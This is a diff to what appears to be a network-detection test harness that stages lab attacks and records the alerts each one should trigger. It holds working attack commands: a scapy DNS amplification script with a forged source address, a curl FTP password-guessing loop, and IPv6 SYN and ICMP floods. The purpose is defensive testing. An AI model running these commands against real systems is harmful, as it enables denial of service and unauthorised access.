@@ -58,21 +58,21 @@ DNS_FORGED = '''
 from scapy.all import IP, UDP, DNS, DNSQR, DNSRROPT, send, conf
 import time
 conf.verb = 0
-for i in range(50):
+for i in range(36):
     send(IP(src="198.51.100.103", dst="192.0.2.15") / UDP(sport=1024 + 7 * i, dport=53) / DNS(id=i, rd=1, qd=DNSQR(qname="big.example.net", qtype="TXT"), ar=DNSRROPT(rclass=4096)), iface="eth0")
     time.sleep(0.004)
 '''
 
 
 @play("dns-amplification", "python", "alert", "amplification", need=("www", "clients", "pcs", "resolver"), bg=("web-in", "dns-out"), sources=[], targets=["198.51.100.103"], forged=["198.51.100.103"], border=False,
-      seen={"ip.src==192.0.2.15 && ip.flags.mf==1": 40}, note="50 questions for a TXT record of 2000 octets, forged in the name of a customer, to an open name server; he gets fragments that he did not ask for and answers with port-unreachable. (sender: scapy)")
+      seen={"ip.src==192.0.2.15 && ip.flags.mf==1": 30}, note="36 questions for a TXT record of 2000 octets, forged in the name of a customer, to an open name server; he gets fragments that he did not ask for and answers with port-unreachable. (sender: scapy)")
 def _(lab):
     big_answer(lab)
     eve = lab.host("eve", "out", 141)
     yield
     time.sleep(1)
     services.python(eve, "forged_dns.py", DNS_FORGED)
-    lab.commands.append("python3 forged_dns.py (scapy: 50 x TXT big.example.net with EDNS 4096, source 198.51.100.103, to 192.0.2.15)")
+    lab.commands.append("python3 forged_dns.py (scapy: 36 x TXT big.example.net with EDNS 4096, source 198.51.100.103, to 192.0.2.15)")
     time.sleep(7)
     yield
 
@@ -146,25 +146,25 @@ def _(lab):
     yield
 
 
-@play("curl-ftp-one-each-slow", "curl", "alert", "password-guessing", need=("ftp", "www", "clients"), bg=("ftp-in", "web-in"), pause=5, sources=["198.51.100.149"], targets=["192.0.2.13"], seen={"ftp.response.code==530": 15},
+@play("curl-ftp-one-each-slow", "curl", "alert", "password-guessing", need=("ftp", "www", "clients"), bg=("ftp-in", "web-in"), pause=5, sources=["198.51.100.149"], targets=["192.0.2.13"], seen={"ftp.response.code==530": 14},
       note="One password a connection, one connection a second.")
 def _(lab):
     h = lab.host("z0", "out", 149)
     yield
-    lab.tool(h, "for p in $(seq 1 18); do curl -s -m 5 -o /dev/null ftp://192.0.2.13/ -u root:vienna$p; sleep 0.8; done", timeout=60)
+    lab.tool(h, "for p in $(seq 1 15); do curl -s -m 5 -o /dev/null ftp://192.0.2.13/ -u root:vienna$p; sleep 0.8; done", timeout=60)
     yield
 
 
-@play("nping-syn-flood-ipv6", "nping", "alert", "syn-flood", need=("www", "pcs", "clients", "resolver"), bg=("web-in", "dns-out"), sources=["2001:db8:1::144"], targets=["2001:db8:2::10"], border=False, seen={"ipv6.src==2001:db8:1::144 && tcp.flags==2": 400},
+@play("nping-syn-flood-ipv6", "nping", "alert", "syn-flood", need=("www", "pcs", "clients", "resolver"), bg=("web-in", "dns-out"), sources=["2001:db8:1::144"], targets=["2001:db8:2::10"], border=False, seen={"ipv6.src==2001:db8:1::144 && tcp.flags==2": 240},
       note="A SYN flood over IPv6 from one address; three source ports, the same SYN again and again.")
 def _(lab):
     eve = lab.host("eve", "out", 144)
     yield
     time.sleep(1)
     for first in (20000, 30000, 40000):
-        lab.tool(eve, f"nping -6 -q -N --tcp --flags syn -p 80 -g {first} --rate 150 -c 150 2001:db8:2::10", bg=True)
+        lab.tool(eve, f"nping -6 -q -N --tcp --flags syn -p 80 -g {first} --rate 100 -c 90 2001:db8:2::10", bg=True)
     time.sleep(6)
     yield
 
 
-flood("ping6-flood", "ping -6 -q -f -s 24 -c 500 2001:db8:2::10", "icmp-flood", attackers=(145,), tool="ping", guilty=["2001:db8:1::145"], bg=("web-in",), targets=["2001:db8:2::10"], seen={"icmpv6.type==128 && ipv6.src==2001:db8:1::145": 480}, note="An ICMPv6 flood by 2001:db8:1::145.")
+flood("ping6-flood", "ping -6 -q -f -s 24 -c 300 2001:db8:2::10", "icmp-flood", attackers=(145,), tool="ping", guilty=["2001:db8:1::145"], bg=("web-in",), targets=["2001:db8:2::10"], seen={"icmpv6.type==128 && ipv6.src==2001:db8:1::145": 280}, note="An ICMPv6 flood by 2001:db8:1::145.")
